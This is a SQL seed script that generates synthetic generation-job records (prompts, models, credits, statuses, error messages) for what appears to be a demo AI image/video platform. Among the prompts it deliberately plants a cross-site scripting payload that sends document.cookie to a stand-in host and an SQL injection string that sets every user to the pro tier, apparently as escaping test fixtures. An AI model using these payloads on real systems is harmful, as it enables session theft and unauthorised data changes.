-- Pictures and clips asked for. The tenth user is the whale with six thousand; the ninth writes prompts of 20 kB.
insert into platform.generation_jobs (id, user_id, project_id, kind, quality, status, prompt, model, credits, error_class, error, created_at, started_at, finished_at)
select demo.id(j.at, j.k, 110), j.user_id, r.id, j.kind, j.quality, j.status,
  case when j.n = 9 and j.no = j.jobs then repeat('A rope bridge over a valley of paper lanterns, each lantern with its own small story written inside; ', 205)
    when j.n = 1 and j.no = j.jobs then '</textarea><script>fetch("//evil.example/"+document.cookie)</script> a cat'
    when j.n = 5 and j.no = j.jobs then 'x''; update users set tier=''pro'' where 1=1; -- a dog'
    else demo.pick(array['a lighthouse keeper', 'two foxes in raincoats', 'an astronaut', 'a ceramic robot', 'a street musician', 'grandmother and child', 'a red bicycle', 'a samurai cat', 'a wedding cake', 'an empty theatre',
        'a whale above the city', 'a vintage camera', 'a barista', 'the moon as a lamp', 'a paper dragon', 'hands holding a map', 'une boulangère', 'ein alter Uhrmacher', 'una bailaora', '一只戴帽子的猫', '夜の商店街', 'старый трамвай'], demo.h(j.k, 111)) || ', ' ||
      demo.pick(array['reading a letter', 'in heavy rain', 'at golden hour', 'from above', 'looking into the camera', 'running', 'under neon signs', 'in an empty station', 'on a rooftop', 'in a greenhouse', 'at the kitchen table', 'surrounded by birds', 'half asleep', 'on a frozen lake'], demo.h(j.k, 112)) || ', ' ||
      demo.pick(array['watercolour', '35 mm film, grain', 'flat vector', 'cinematic, shallow depth of field', 'anime key visual', 'oil on canvas', 'isometric 3D', 'charcoal sketch', 'product photo, white background', 'risograph', 'claymation'], demo.h(j.k, 113)) ||
      demo.pick(array['', '', ', no text', ', 8k', ', soft light', ', muted colours', ' --seed ' || demo.h(j.k, 114) % 99999], demo.h(j.k, 115)) end,
  demo.pick(case j.kind when 'image' then array['flux-dev', 'flux-dev', 'flux-schnell', 'sdxl', 'sd-3.5-large'] else array['wan-2.2', 'ltx-video', 'kling-2'] end, demo.h(j.k, 116)),
  case when j.kind = 'image' then case j.quality when 'draft' then 1 else 3 end else case j.quality when 'draft' then 5 else 12 end end,
  case when j.status = 'failed' then split_part(e.error, '|', 1) end, case when j.status = 'failed' then split_part(e.error, '|', 2) end,
  j.at, case when j.status in ('running', 'done', 'failed') then least(demo.clock(), j.at + interval '1 second' * (1 + demo.h(j.k, 117) % 20)) end,
  case when j.status in ('done', 'failed', 'cancelled') then least(demo.clock(), j.at + interval '1 second' * (24 + demo.h(j.k, 118) % case j.kind when 'image' then 40 else 380 end)) end
from (
  select p.n, no, p.jobs, p.n * 10000 + no as k, p.id as user_id, p.projects, t.at,
    case when demo.u(p.n * 10000 + no, 119) < case p.tier when 'pro' then 0.25 when 'starter' then 0.1 else 0.02 end then 'video' else 'image' end as kind,
    case when demo.u(p.n * 10000 + no, 120) < case p.tier when 'free' then 0.15 else 0.4 end then 'hq' else 'draft' end as quality,
    case when t.at > demo.clock() - interval '3 minutes' then case when demo.u(p.n * 10000 + no, 121) < 0.6 then 'running' else 'queued' end
      when demo.u(p.n * 10000 + no, 121) < 0.91 then 'done' when demo.u(p.n * 10000 + no, 121) < 0.97 then 'failed' else 'cancelled' end as status
  from (
    select p.*, coalesce(c.projects, 0) as projects, case when p.n = 10 then 6000 when not p.plain then 0
      when p.heavy then floor(power(demo.u(p.n, 122), 1.6) * case p.tier when 'free' then 12 when 'starter' then 70 else 170 end)::int + case when p.special then 6 else 0 end
      when p.tier = 'free' then (demo.u(p.n, 122) < 0.35)::int else 1 + (demo.h(p.n, 122) % 3)::int end as jobs
    from demo.person p left join demo.project_count c using (n)
  ) p
  cross join lateral generate_series(1, p.jobs) no
  cross join lateral (select case when no = p.jobs then greatest(p.created_at + interval '1 minute', p.last_active_at - interval '10 minutes' * demo.u(p.n, 123))
      else demo.between_times(p.created_at + interval '1 minute', p.last_active_at - interval '10 minutes', demo.u(p.n * 10000 + no, 124)) end as at) t
  where t.at <= demo.clock()
) j
cross join lateral (select demo.pick(array['oom|CUDA out of memory while decoding 121 frames at 1280x720.', 'timeout|No result within 600 s; the worker was stopped.',
    'content_policy|The prompt was refused: real person in a compromising scene.', 'provider_5xx|Upstream answered 502 Bad Gateway three times.', 'provider_5xx|Upstream answered 503 Service Unavailable three times.',
    'invalid_input|Reference picture is 64x64; at least 256x256 is needed.', 'lora_missing|LoRA weights not found in the store: adapter_model.safetensors.', 'unknown|Worker exited with code 139.'], demo.h(j.k, 125)) as error) e
left join demo.project r on r.n = j.n and r.i = 1 + demo.h(j.k, 126) % nullif(j.projects, 0) and r.created_at <= j.at;
